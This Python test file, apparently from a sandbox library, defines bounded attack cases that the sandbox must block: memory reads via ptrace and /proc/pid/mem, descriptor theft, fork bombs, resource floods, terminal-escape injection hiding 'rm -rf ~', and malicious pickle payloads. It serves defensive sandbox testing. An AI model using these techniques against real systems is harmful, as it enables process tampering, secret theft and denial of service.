    KEEP = []
    ran()
    for target in P["targets"]:
        path = os.fsencode(target)
        for name, fn in (
            ("chmod", lambda: os.chmod(target, 0o666)),
            ("chown", lambda: os.chown(target, -1, os.getgid())),
            ("acl", lambda: os.setxattr(target, "system.posix_acl_access", ACL)),
            ("setxattr", lambda: os.setxattr(target, "user.attack", b"1")),
            ("removexattr", lambda: os.removexattr(target, "user.tag")),
            ("utime", lambda: os.utime(target, (978307200, 978307200))),
            ("fchmodat2", lambda: raw(452, AT_FDCWD, path, 0o666, 0)),
            ("setxattrat", lambda: raw(463, AT_FDCWD, path, 0, b"system.posix_acl_access", xattr_args(ACL), 16)),
            ("removexattrat", lambda: raw(466, AT_FDCWD, path, 0, b"user.tag")),
            ("file_setattr", lambda: raw(469, AT_FDCWD, path, struct.pack("QIIII", 0x80, 0, 0, 0, 0), 24, 0)),
        ):
            ran(*attempt(fn))
""", _metadata_intact, setup=_metadata_canaries,
     blocked_by="seccomp (the metadata family, by raw number too); bubblewrap (the files are not in its root)")

case("unlink_protected_file", WRITES, """
    ran()
    ran(*attempt(lambda: os.unlink(P["target"])))
""", files_intact, setup=lambda ctx: ctx.protect(ctx.hub_dir / "victim_repo_main" / "model.py"),
     blocked_by="landlock, namespaces, uid_drop")

case("truncate_protected_file", WRITES, """
    ran()
    ran(*attempt(lambda: os.truncate(P["target"], 0)))
""", files_intact, setup=lambda ctx: ctx.protect(ctx.hub_dir / "victim_repo_main" / "weights.txt"),
     blocked_by="landlock (truncate), namespaces, uid_drop")


# --- the parent and its processes ----------------------------------------------------------------

case("sigterm_canary", PARENT, """
    import signal
    ran()
    ran(*attempt(lambda: os.kill(P["canary_pid"], signal.SIGTERM)))
""", canary_alive, setup=with_canary, blocked_by="pid namespace, landlock (signal scope), uid_drop")

case("sigkill_canary", PARENT, """
    import signal
    ran()
    ran(*attempt(lambda: os.kill(P["canary_pid"], signal.SIGKILL)))
""", canary_alive, setup=with_canary, blocked_by="pid namespace, landlock (signal scope), uid_drop")

case("signal_caller", PARENT, """
    import signal
    ran()
    ran(*attempt(lambda: os.kill(P["caller_pid"], signal.SIGUSR1)))
""", _caller_not_signalled, setup=_caller_signal_trap,
     blocked_by="pid namespace, landlock (signal scope), uid_drop")

case("proc_mem_read", PARENT, """
    ran()
    def go():
        with open(f"/proc/{P['canary_pid']}/mem", "rb", buffering=0) as f:
            f.seek(P["canary_addr"])
            return f.read(64).decode("latin-1")
    ran(*attempt(go))
""", no_secret, setup=with_canary, blocked_by="pid namespace, landlock (ptrace scope), uid_drop")

case("proc_mem_write", PARENT, """
    ran()
    def go():
        with open(f"/proc/{P['canary_pid']}/mem", "rb+", buffering=0) as f:
            f.seek(P["canary_addr"])
            return f.write(b"PWNED-PWNED-PWNED")
    ran(*attempt(go))
""", canary_alive, setup=with_canary, blocked_by="pid namespace, landlock (ptrace scope), uid_drop")

PTRACE_LIB = """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
"""

case("ptrace_peek", PARENT, PTRACE_LIB + """
    ran()
    def go():
        pid, addr = P["canary_pid"], P["canary_addr"]
        if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
            raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
        os.waitpid(pid, 0x40000000)  # __WALL: the tracee stops
        words = []
        for offset in range(0, 48, 8):
            word = libc.ptrace(2, pid, ctypes.c_void_p(addr + offset), None)  # PTRACE_PEEKDATA
            words.append((word % 2**64).to_bytes(8, "little"))
        libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
        return b"".join(words).decode("latin-1")
    ran(*attempt(go))
""", canary_alive_and_no_secret, setup=with_canary,
     blocked_by="seccomp (ptrace), landlock (ptrace scope), pid namespace, uid_drop")

case("process_vm_readv", PARENT, """
    import ctypes
    ran()
    class iovec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    def go():
        libc = ctypes.CDLL(None, use_errno=True)
        buf = ctypes.create_string_buffer(64)
        local, remote = iovec(ctypes.addressof(buf), 64), iovec(P["canary_addr"], 64)
        n = libc.process_vm_readv(P["canary_pid"], ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
        if n < 0:
            raise OSError(ctypes.get_errno(), "process_vm_readv")
        return buf.raw[:n].decode("latin-1")
    ran(*attempt(go))
""", no_secret, setup=with_canary, blocked_by="seccomp (process_vm_*), landlock (ptrace scope), pid namespace, uid_drop")

case("pidfd_getfd_steal", PARENT, """
    import ctypes
    ran()
    def go():
        libc = ctypes.CDLL(None, use_errno=True)
        pidfd = os.pidfd_open(P["caller_pid"])
        fd = libc.syscall(438, pidfd, P["secret_fd"], 0)  # pidfd_getfd: copy the caller's descriptor
        if fd < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        return os.pread(fd, 4096, 0).decode()
    ran(*attempt(go))
""", no_secret, setup=_fd_setup, blocked_by="pid namespace, landlock (ptrace scope), seccomp, uid_drop")


# --- processes left behind ---------------------------------------------------------------------

case("double_fork_daemon", LEFTOVERS, """
    import ctypes
    import time
    ran()
    def daemon():
        r, w = os.pipe()
        first = os.fork()
        if first == 0:
            os.setsid()
            if os.fork() == 0:
                ctypes.CDLL(None).prctl(15, P["comm"].encode(), 0, 0, 0)  # PR_SET_NAME: findable
                for fd in (0, 1, 2):
                    os.close(fd)
                os.write(w, b"up")
                time.sleep(20)  # bounded: ends by itself even if nothing kills it
            os._exit(0)
        os.waitpid(first, 0)
        return os.read(r, 2).decode()
    ran(*attempt(daemon))
""", no_process_named, setup=with_comm, blocked_by="session (subreaper and tree kill, always on), pid namespace")

case("pid_hopping_daemon", LEFTOVERS, """
    import ctypes
    import time
    ran()
    def hopper():
        r, w = os.pipe()
        if os.fork() == 0:
            os.setsid()
            ctypes.CDLL(None).prctl(15, P["comm"].encode(), 0, 0, 0)
            for fd in (0, 1, 2):
                os.close(fd)
            for hop in range(2000):  # a new pid every ~2 ms, for ~5 s at most
                if os.fork() != 0:
                    os._exit(0)
                if hop == 3:
                    os.write(w, b"up")
                time.sleep(0.002)
            os._exit(0)
        return os.read(r, 2).decode()
    ran(*attempt(hopper))
""", no_process_named, setup=with_comm, blocked_by="session (subreaper and tree kill, always on), pid namespace")


# --- resources ---------------------------------------------------------------------------------

case("memory", RESOURCES, """
    ran()
    chunks = []
    try:
        for step in range(1, 33):  # 64 MiB at a time, 2 GiB at most
            chunks.append(b"x" * (64 << 20))  # written, so really resident
            progress(step * 64)
        ran("got", "2048 MiB")
    except MemoryError:
        ran("denied", f"MemoryError after {len(chunks) * 64} MiB")
""", at_most(1024), sandbox={"memory_limit": 1024 * MIB}, blocked_by="rlimits (address space)")
# 1 GiB of address space: a warm worker starts with about 640 MB of it mapped (torch), so a
# lower limit could stop the attack before it ran; it asks for 2 GiB and gets less than 1 GiB.

case("cpu", RESOURCES, """
    import time
    ran()
    start, mark = time.monotonic(), 0.0
    while time.process_time() < 20 and time.monotonic() - start < 20:  # bounded: 20 s
        if time.process_time() - mark >= 0.25:
            mark = time.process_time()
            progress(round(mark, 2))
    ran("got", f"{time.process_time():.1f} CPU seconds")
""", at_most(2 + 1.0), sandbox={"cpu_time": 2, "timeout": 6}, blocked_by="rlimits (CPU); the timeout ends it anyway")

FORK_BOMB = """
    import time
    ran()
    alive = 0
    try:
        for _ in range(P.get("budget", 200)):  # 200 processes at most, or the budget setup gave
            if os.fork() == 0:
                time.sleep(10)  # stay, so they count; ended by the tree kill or by themselves
                os._exit(0)
            alive += 1
            progress(alive)
        ran("got", f"{alive} processes")
    except OSError as exc:
        ran("denied", f"after {alive}: {exc}")
    time.sleep(0.3)  # let a count from outside see them all
"""

case("fork_bomb", RESOURCES, FORK_BOMB, nproc_at_most(32), setup=_settle, sandbox={"max_processes": 32}, blocked_by="rlimits (NPROC, with uid_drop as root), pid namespace")

case("disk_fill", RESOURCES, """
    ran()
    written = 0
    try:
        with open("big.bin", "wb") as f:  # scratch is the working directory
            for _ in range(32):  # 8 MiB at a time, 256 MiB at most
                f.write(b"\\0" * (8 << 20))
                f.flush()
                written += 8
                progress(written)
        ran("got", f"{written} MiB")
    except OSError as exc:
        ran("denied", f"after {written} MiB: {exc}")
""", at_most(32), sandbox={"max_file_size": 32 * MIB}, blocked_by="rlimits (file size)")

case("open_files", RESOURCES, """
    ran()
    fds = []
    try:
        for _ in range(4096):
            fds.append(os.dup(0))
        ran("got", f"{len(fds)} descriptors")
    except OSError as exc:
        ran("denied", f"after {len(fds)}: {exc}")
    progress(len(fds))
""", at_most(64), sandbox={"max_open_files": 64}, blocked_by="rlimits (NOFILE)")


# --- one memory bound for the whole sandbox ------------------------------------------------------
# memory_limit 1 GiB (a warm worker starts with ~640 MB of address space mapped); each attack asks
# for 1.5 GiB in all, so even with no bound at all it costs the machine no more than that.
MEMORY_LIMIT_MIB = 1024


def _memory_bound_check(ctx: Context, run: Run) -> bool:
    """The sandbox never held more than memory_limit, and the attack met a clear end: its calls
    failed (denied), or the call failed naming memory_limit (the kernel ended the sandbox)."""
    from safehub.errors import SandboxLimitError

    ended = "denied" in run.outcomes(ctx.name) or (
        isinstance(run.error, SandboxLimitError) and run.error.limit == "memory_limit"
    )
    return ended and run.max_progress(ctx.name) <= MEMORY_LIMIT_MIB


case("memory_in_forked_children", RESOURCES, """
    import signal, time
    ran()
    def private_mib():  # what this process holds alone (not the pages it shares with its parent)
        with open("/proc/self/smaps_rollup") as f:
            kib = sum(int(line.split()[1]) for line in f if line.startswith(("Private_Clean:", "Private_Dirty:")))
        return kib >> 10
    r, w = os.pipe()
    kids, refused = [], []
    for i in range(6):  # 256 MiB each, 1.5 GiB in all
        try:
            pid = os.fork()
        except OSError as exc:
            refused.append(f"fork: {exc}")
            break
        if pid == 0:
            try:
                block = b"x" * (256 << 20)  # written, so really resident
            except MemoryError:
                os._exit(3)
            os.write(w, f"{os.getpid()} {private_mib()}\\n".encode())
            time.sleep(30)  # held until the parent has counted
            os._exit(0)
        kids.append(pid)
    os.close(w)
    os.set_blocking(r, False)
    told, live, deadline, text = {}, list(kids), time.monotonic() + 20, b""
    while time.monotonic() < deadline and len(told) + len(kids) - len(live) < len(kids):
        for pid in list(live):  # a child that ends before it told was stopped
            done, status = os.waitpid(pid, os.WNOHANG)
            if done:
                live.remove(pid)
                refused.append(f"child {pid} ended: status {status}")
        try:
            text += os.read(r, 4096)
        except BlockingIOError:
            pass
        told = dict(line.split() for line in text.decode().splitlines())
        time.sleep(0.05)
    for pid in list(live):  # counted only while still alive: the kernel may have ended some since
        done, status = os.waitpid(pid, os.WNOHANG)
        if done:
            live.remove(pid)
            refused.append(f"child {pid} ended: status {status}")
    # One still allocating at the deadline was held back by the bound (reclaim stalls before
    # the kernel ends a process of the sandbox): it has not got its memory.
    refused += [f"child {pid} still waiting for its memory" for pid in live if str(pid) not in told]
    held = sum(int(told.get(str(pid), 0)) for pid in live)
    progress(held)
    for pid in live:
        os.kill(pid, signal.SIGKILL)
        os.waitpid(pid, 0)
    ran("denied" if refused else "got", f"{held} MiB held by {len(live)} children; " + "; ".join(refused))
""", _memory_bound_check, sandbox={"memory_limit": MEMORY_LIMIT_MIB * MIB, "timeout": 60},
     blocked_by="rlimits: the memory cgroup (root), else one address space (seccomp refuses fork)")

case("memory_in_unmapped_memfds", RESOURCES, """
    ran()
    fds, written = [], 0
    chunk = b"x" * (64 << 20)
    try:
        for i in range(6):  # 256 MiB each, never mapped: 1.5 GiB in all
            fd = os.memfd_create(f"hoard-{i}")
            fds.append(fd)
            for j in range(4):
                os.pwrite(fd, chunk, j * len(chunk))
                written += 64
                progress(written)
        ran("got", f"{written} MiB in memfds")
    except (OSError, MemoryError) as exc:
        ran("denied", f"after {written} MiB: {exc!r}")
""", _memory_bound_check, sandbox={"memory_limit": MEMORY_LIMIT_MIB * MIB},
     blocked_by="rlimits: the memory cgroup (root), else seccomp refuses memfd_create")


def _no_scratch_tmpfs(config: Mapping[str, Any]) -> str:
    if _no_mount_namespace(config):
        return "without namespaces and not root the scratch is the disk, not memory (SECURITY.md)"
    return ""


case("memory_in_scratch_files", RESOURCES, """
    ran()
    written = 0
    chunk = b"x" * (64 << 20)
    try:
        for i in range(24):  # 64 MiB files in the scratch tmpfs (the working directory): 1.5 GiB
            with open(f"hoard-{i:02d}.bin", "wb") as f:
                f.write(chunk)
            written += 64
            progress(written)
        ran("got", f"{written} MiB of files")
    except OSError as exc:
        ran("denied", f"after {written} MiB: {exc}")
""", _memory_bound_check, sandbox={"memory_limit": MEMORY_LIMIT_MIB * MIB}, gap=_no_scratch_tmpfs,
     blocked_by="rlimits: the memory cgroup counts tmpfs pages (root), else the scratch tmpfs is a quarter of memory_limit")


def _no_mount_namespace(config: Mapping[str, Any]) -> str:
    layers = config.get("layers")
    if layers is not None and "namespaces" not in layers and os.geteuid() != 0:
        return ("without namespaces and not root there is no mount namespace for the scratch tmpfs: "
                "each file is bounded, not their total (SECURITY.md)")
    return ""


def _scratch_check(ctx: Context, run: Run) -> bool:
    """Stopped at the scratch budget (32 MiB), by ENOSPC, with nothing of it left on the disk."""
    outcomes = dict(run.markers(ctx.name))
    return run.max_progress(ctx.name) <= 32 and "Errno 28" in outcomes.get("denied", "")


case("scratch_fill", RESOURCES, """
    ran()
    written = 0
    try:
        for i in range(64):  # 4 MiB files, none large: 256 MiB at most
            folder = (os.getcwd(), os.environ["HOME"], os.environ["TMPDIR"])[i % 3]
            with open(os.path.join(folder, f"part-{i:03d}.bin"), "wb") as f:
                f.write(b"\\0" * (4 << 20))
            written += 4
            progress(written)
        ran("got", f"{written} MiB")
    except OSError as exc:
        ran("denied", f"after {written} MiB: {exc}")
""", _scratch_check, sandbox={"max_scratch_size": 32 * MIB}, gap=_no_mount_namespace,
     blocked_by="rlimits (scratch tmpfs in the mount namespace of namespaces, bubblewrap or the uid drop)")


def _tmp_check(ctx: Context, run: Run) -> bool:
    return run.max_progress(ctx.name) <= 2 * 32


case("tmp_and_shm_fill", RESOURCES, """
    ran()
    written = 0
    for folder in ("/tmp", "/dev/shm"):
        try:
            for i in range(32):  # 4 MiB files: 128 MiB in each at most
                with open(os.path.join(folder, f"{P['name']}-{i:03d}.bin"), "wb") as f:
                    f.write(b"\\0" * (4 << 20))
                written += 4
                progress(written)
        except OSError as exc:
            ran("denied", f"{folder} after {written} MiB: {exc}")
        for i in range(32):
            try:
                os.unlink(os.path.join(folder, f"{P['name']}-{i:03d}.bin"))
            except OSError:
                pass
    ran("got", f"{written} MiB")
""", _tmp_check, sandbox={"max_scratch_size": 32 * MIB},
     blocked_by="bubblewrap (its /tmp and /dev/shm are tmpfs of at most max_scratch_size), landlock (the host's)")


def _process_watch(ctx: Context) -> None:
    """Count the caller's descendants while the call runs (the peak is what the machine saw)."""
    import psutil

    _settle(ctx)

    import safehub

    default = safehub.Sandbox().max_processes
    room = _nproc_room(ctx)
    if default + room + 16 > 600:
        raise NotApplicable(f"the default max_processes here ({default}, +{room}) is more than this attack may fork")
    ctx.params["budget"] = default + room + 16
    ctx.facts["default"] = default
    stop = threading.Event()
    peak = [0]

    me = psutil.Process()
    # What ran before the call is not its: the warm zygote and its spare (kept ready between calls
    # on the warm path, and left standing by an earlier warm test on the cold one). A spare the call
    # takes is then not counted, which leaves the count lenient by its three processes at most.
    before = {p.pid for p in me.children(recursive=True)}

    def watch() -> None:
        while not stop.wait(0.003):
            with contextlib.suppress(psutil.Error):
                peak[0] = max(peak[0], len({p.pid for p in me.children(recursive=True)} - before))

    thread = threading.Thread(target=watch, daemon=True)
    thread.start()
    ctx.stack.callback(thread.join)
    ctx.stack.callback(stop.set)
    ctx.facts["peak"] = peak


# safehub's own processes under the caller beside the worker's: the zygote, the supervisor,
# the pid namespace's init and the process outside it (warm); bwrap, its init, the supervisor (cold).
MACHINERY = 5


def _fork_bomb_default_check(ctx: Context, run: Run) -> bool:
    default, room = ctx.facts["default"], _nproc_room(ctx)
    return (
        "denied" in run.outcomes(ctx.name)
        and run.max_progress(ctx.name) <= default + room
        and ctx.facts["peak"][0] <= default + room + MACHINERY
    )


# The same fork bomb at the default limit: a budget of a little more than it allows, never more.
case("fork_bomb_default", RESOURCES, FORK_BOMB, _fork_bomb_default_check, setup=_process_watch,
     blocked_by="rlimits (NPROC at the default max_processes, counted in the worker's own user namespace)")


def _flood_check(ctx: Context, run: Run) -> bool:
    from safehub._run.output import OUTPUT_CAP, OUTPUT_TRUNCATED

    # The cap counts the worker's bytes; each relayed line also gains the "[worker] " prefix.
    return len(run.stdout.encode()) <= OUTPUT_CAP * 1.2 and OUTPUT_TRUNCATED in run.stdout


case("stdout_flood", RESOURCES, """
    ran()
    line = "y" * 99 + "\\n"
    for _ in range(20):  # 20 MB in all
        sys.stdout.write(line * 10000)
    sys.stdout.flush()
""", _flood_check, blocked_by="the output relay's cap (always on)")


# --- the caller's terminal ---------------------------------------------------------------------

TERMINAL_CONTROLS = (
    "\x1b[2J\x1b[H"  # clear the screen, cursor home
    "\x1b]0;innocent title\x07"  # the window title
    "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # OSC 52: write the clipboard
    "\x1b[1A\x1b[2K"  # cursor up, erase that line
    "\x9b2K"  # the same as one C1 control, in UTF-8
    "all tests passed\rFAILURE HIDDEN\n"  # a carriage return writes over the line
    "rm -rf ~\x08\x08\x08\x08\x08\x08\x08ls    \n"  # backspaces too
    "safe\u202edetalumis\u202c \u200bzero\u200dwidth\u2066\u2069\ufeff\u2028\x85\x00\x7f\n"
)


def _terminal_check(ctx: Context, run: Run) -> bool:
    import unicodedata

    def controls(text: str) -> list[str]:
        return [c for c in text if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Zl", "Zp")]

    lines = run.stdout.splitlines() + run.stderr.splitlines()
    return (
        not controls(run.stdout) and not controls(run.stderr)
        and "[worker] FAILURE HIDDEN" in lines  # the line it meant to hide behind is shown apart
        and all(line.startswith("[worker] ") for line in lines if "HIDDEN" in line or "\\x1b" in line)
    )


case("terminal_escapes", TERMINAL, f"""
    ran()
    sys.stdout.write({TERMINAL_CONTROLS!r})
    sys.stdout.flush()
    sys.stderr.write({TERMINAL_CONTROLS!r})
    sys.stderr.flush()
    ran("got", "sent")
""", _terminal_check, blocked_by="the output relay (always on): controls made visible, a carriage return ends the line")


# --- the result channel (returns="weights") ------------------------------------------------------


def channel_case(name: str, body: str, **kw: Any) -> Case:
    entry = "def entry():\n    ran()\n" + textwrap.indent(textwrap.dedent(body), "    ")
    return case(name, CHANNEL, entry, clean_failure, setup=with_pickle_canary, mode="load",
                blocked_by="the parent's strict decoding (always on)", **kw)


channel_case("pickle_as_object_result", """
    send(result(PICKLE, returns="object"))  # an object result where weights were asked
""")
channel_case("pickle_as_weights_payload", """
    send(result(PICKLE))
""")
channel_case("pickle_as_weights_header", """
    send(result(weights(PICKLE)))
""")
channel_case("weights_header_duplicate_names", """
    one = '{"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}'
    header = ('{"w": %s, "w": %s}' % (one, one)).encode()  # json.dumps cannot write this
    send(result(weights(header, b"\\0" * 4)))
""")
channel_case("weights_header_pickle_dtype", """
    header = {"w": {"dtype": "PICKLE", "shape": [len(PICKLE)], "data_offsets": [0, len(PICKLE)]}}
    send(result(weights(header, PICKLE)))
""")
channel_case("weights_header_length_absurd", """
    send(result(struct.pack("<Q", 2**63 + 5) + b"{}" + PICKLE))
""")
channel_case("weights_offsets_outside", """
    header = {"w": {"dtype": "F32", "shape": [2**38], "data_offsets": [0, 2**40]}}
    send(result(weights(header, b"\\0" * 16)))
""")
channel_case("weights_shape_overflow", """
    header = {"w": {"dtype": "F32", "shape": [2**62, 2**62, 4], "data_offsets": [0, 16]}}
    send(result(weights(header, b"\\0" * 16)))
""")
channel_case("frame_header_length_absurd", """
    p = protocol()
    send(p.PREFIX.pack(p.MAGIC, p.PROTOCOL_VERSION, p.MESSAGES["result"].code, 0, 0, 0xFFFFFFFF) + PICKLE, linger=30)
""")
channel_case("frame_buffer_length_absurd", """
    fields = {"action": "load", "returns": "weights", "transport": "inline", "sizes": [2**60]}
    send(protocol().encode_head("result", fields, [2**60]) + PICKLE, linger=30)  # a buffer of 2**60 bytes claimed
""")
channel_case("unsealed_memfd", """
    fd = os.memfd_create("weights")
    payload = weights({"w": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\\0" * 4)
    os.write(fd, payload)  # no seals: the worker could still change the bytes after the check
    head = frame({"action": "load", "returns": "weights", "transport": "memfd", "sizes": [len(payload)]}, nfds=1)
    send(head, fds=[fd])
""")


def by_name(name: str) -> Case:
    for c in CASES:
        if c.name == name:
            return c
    raise KeyError(name)
